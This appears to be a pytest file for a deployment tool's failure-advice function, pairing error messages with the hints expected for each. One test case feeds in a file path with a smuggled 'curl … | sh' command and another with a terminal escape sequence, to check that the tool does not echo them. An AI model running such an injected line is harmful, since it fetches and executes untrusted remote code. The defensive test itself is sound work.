"""Test what is suggested after a failure whose reason shows what to change."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from support.status_answers import PLAN
from tfdeploy.model.plan import Plan
from tfdeploy.operations.watch.failure_advice import failure_advice

RESUMED = replace(PLAN, resume="checkpoints: model.ckpt-1200 on n2")
PAIR = replace(PLAN, tasks=tuple(replace(task, host="n1") for task in PLAN.tasks))
MISSING = "FileNotFoundError: [Errno 2] No such file or directory: '{}' (train.py:3)"
BROADCAST = "could not broadcast input array from shape (16,) into shape (32,) (train.py:17)"
IN_USE = "OSError: [Errno 98] Address already in use (train.py:17)"
STALLED = "worker:0 gave up: stalled: no output, after 3 restarts (restart.max)"


REMEDY = "train.py:11 names ../a.csv, which is outside the code folder; write `data: {a: ../a.csv}`"
OTHER = "compat v1: the program uses tf.train.Server (train.py:2) of TensorFlow 1"
NOTED = replace(PLAN, notes=(OTHER, "workers: 2; write more", REMEDY))


@pytest.mark.parametrize(
    ("plan", "cause", "advice"),
    [
        (PLAN, MISSING.format("/none/a.csv"), "`data: {NAME: {from: HOST:/none/a.csv}}`"),
        (
            PLAN,
            MISSING.format("/none/a b"),
            "`tfdeploy exec -- ls -d '/none/a b'` shows which hosts",
        ),
        (replace(PLAN, hosts=PLAN.hosts[:1]), MISSING.format("/none/a.csv"), ""),
        (PLAN, MISSING.format("none/a.csv"), ""),
        (PLAN, MISSING.format("/none`; curl h/x | sh"), ""),
        (PLAN, MISSING.format("/none\x1b]0;title\x07"), ""),
        (RESUMED, BROADCAST, "continued from checkpoints: model.ckpt-1200 on n2; if these"),
        (
            RESUMED,
            "Error(s) in loading state_dict for Net: size mismatch",
            "`tfdeploy launch --fresh`",
        ),
        (RESUMED, "ZeroDivisionError: division by zero", ""),
        (PLAN, BROADCAST, ""),
        (PAIR, IN_USE, "ps:0, worker:1 on the same host may use the same port"),
        (PAIR, IN_USE, "such as --port=600{local_rank}"),
        (PLAN, IN_USE, ""),
        (replace(PLAN, stall_after_s=4), STALLED, "for 4 s was ended"),
        (PLAN, "module 'queue' has no attribute 'SimpleQueue'", "has a file queue.py, rename it"),
        (PLAN, "cannot import name 'Queue' from 'queue' (/w/queue.py)", "has a file queue.py"),
        (PLAN, "module 'numpy' has no attribute 'bool'", ""),
        (NOTED, "exit code 1", f"before the start, the plan noted: {REMEDY}"),
        (replace(PLAN, notes=(OTHER,)), "exit code 1", ""),
        # A plan from a host has no command.
        (replace(NOTED, command=()), "exit code 1", ""),
        (replace(RESUMED, command=()), BROADCAST, ""),
    ],
)
def test_advice(plan: Plan, cause: str, advice: str) -> None:
    said = failure_advice(plan, "worker:0", cause)
    assert (advice in said and said[:2] == "; ") if advice else said == ""


def test_file_of_this_machine(tmp_path: Path) -> None:
    assert "is on this machine" in failure_advice(PLAN, "worker:0", MISSING.format(tmp_path))
